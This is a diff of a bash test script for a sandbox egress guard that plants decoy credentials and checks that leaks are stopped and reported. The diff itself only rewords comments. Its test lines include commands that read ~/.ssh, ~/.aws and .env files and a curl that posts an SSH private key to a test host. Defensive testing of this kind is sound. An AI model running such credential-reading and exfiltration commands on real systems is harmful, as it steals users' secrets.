@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
-# Decoy credentials: laid where agents look, in no diff, and a violation when one leaves, in whatever form. Servers of the test
-# judge what arrived.
+# Decoy credentials: placed where agents look, in no diff, and a violation when one leaves, in any
+# form. Servers of the test judge what arrived.
 . "$(dirname "$0")/../harness/lib.sh"
 [ -x "$BIN/cloche-egress" ] || skip "cloche-egress is not built"
 export PATH=$SAFE_PATH
@@ -56,8 +56,8 @@ try box sh -c 'cat .env ~/.aws/* ~/.ssh/* ~/.npmrc ~/.git-credentials ~/.config/
 cp "$OUT" "$T/decoys"
 check "a .env in the place of the hidden one" mentions '^DEPLOY_API_KEY=sk-'
 check "no content of the host's" not mentions flag-of-host
-check "what lies beside a decoy stays hidden" not mentions '^config$'
-check "what is visible stays" mentions '^visible$'
+check "other files beside a decoy stay hidden" not mentions '^config$'
+check "visible files stay" mentions '^visible$'
 if [ "$MODE" = system ]; then  # ssh-keygen wants an account
   try box ssh-keygen -y -P '' -f "$CALLER_HOME/.ssh/id_ed25519"
   check "the key is one for OpenSSH" mentions '^ssh-ed25519 '
@@ -90,14 +90,14 @@ cloche new --name other "${grants[@]}" > "$T/log" 2>&1
 for form in "${forms[@]}"; do
   : > "$LOG"
   try leak "$form" $(hosts "$form") "$innocent"
-  check "$form: what is no decoy passes" exits 0
+  check "$form: other text passes" exits 0
   check "$form: and arrives" heard "/${form#https:}\\|^bytes.* after"
 done
 : > "$LOG"
 try cloche exec -q other -- "$PYTHON" leak.py gzip $(hosts gzip) "$secret"
-check "what is no decoy of this sandbox is none" heard '/gzip'
+check "a decoy of another sandbox passes" heard '/gzip'
 
-# --- In every form it is stopped, told, and does not arrive.
+# --- In every form it is stopped, reported, and does not arrive.
 for form in "${forms[@]}" name; do
   : > "$LOG"
   try leak "$form" $(hosts "$form") "$secret"
@@ -105,7 +105,7 @@ for form in "${forms[@]}" name; do
   check "$form: it did not arrive" not heard "/${form#https:}\\|^bytes.* after"
 done
 check "no part of the log of the servers has it" not grep -qe "$secret" "$LOG"
-box true  # show tells the last command, whatever is in it
+box true  # show prints the last command in full: this one holds no decoy
 try cloche show box --json
 cp "$OUT" "$T/shown"
 told() { grep -qF -- "\"$1 to " "$T/shown" || { echo "not told: $1" >&2; false; }; }
@@ -123,7 +123,7 @@ check "and of a name" mentions 'ALARM  *dns '
 check "and no value" not mentions "$secret\\|$(printf %s "$secret" | od -An -tx1 | tr -d ' \n' | cut -c 1-40)"
 try cloche exec box -- curl -sS -m 20 --data-binary @"$CALLER_HOME/.ssh/id_ed25519" "http://api.test:$HTTP/curl"
 check "curl sends a file: reset" not exits 0
-check "the command is told" says 'violation: send decoy ssh-key, plain to api.test'
+check "the command reports it" says 'violation: send decoy ssh-key, plain to api.test'
 
 # --- Tools of their own.
 : > "$LOG"
@@ -162,7 +162,8 @@ check "which says where to" mentions "api.test:$HTTP .*(plain) was on its way to
 try box "$PYTHON" leak.py plain nowhere.test 80 "$secret"
 check "towards what is not granted" not exits 0
 
-# --- It stays over a stop, a restart, a fork; what an agent does to one is no deletion of the real one.
+# --- Decoys survive a stop, a restart, a fork; an agent that deletes one does not delete the real
+# file.
 try cloche stop box
 restart_daemon
 try box cat "$CALLER_HOME/.npmrc"
@@ -173,13 +174,13 @@ cloche fork box --name twin > "$T/log" 2>&1
 try cloche exec -q twin -- cat "$CALLER_HOME/.npmrc"
 check "a fork has the same" mentions "$token"
 try cloche exec -q twin -- "$PYTHON" leak.py hex $(hosts hex) "$secret"
-check "what was read before is found after" not exits 0
+check "a decoy read before is found after" not exits 0
 try box sh -c 'rm -rf ~/.ssh ~/.npmrc .env; echo mine > ~/.aws/config; ls -A ~/.aws'
 check "an agent may remove and add" prints 'config
 credentials'
 try cloche diff box -a --name-only
-check "what it removed was not there" not mentions 'ssh\|npmrc\|\.env'
-check "what it made is there" mentions '\.aws/config'
+check "removed decoys are not deletions" not mentions 'ssh\|npmrc\|\.env'
+check "its own files are shown" mentions '\.aws/config'
 check "without the decoy beside it" not mentions credentials
 fingerprint > "$T/after"
 check "the host's are untouched" diff "$T/before" "$T/after"
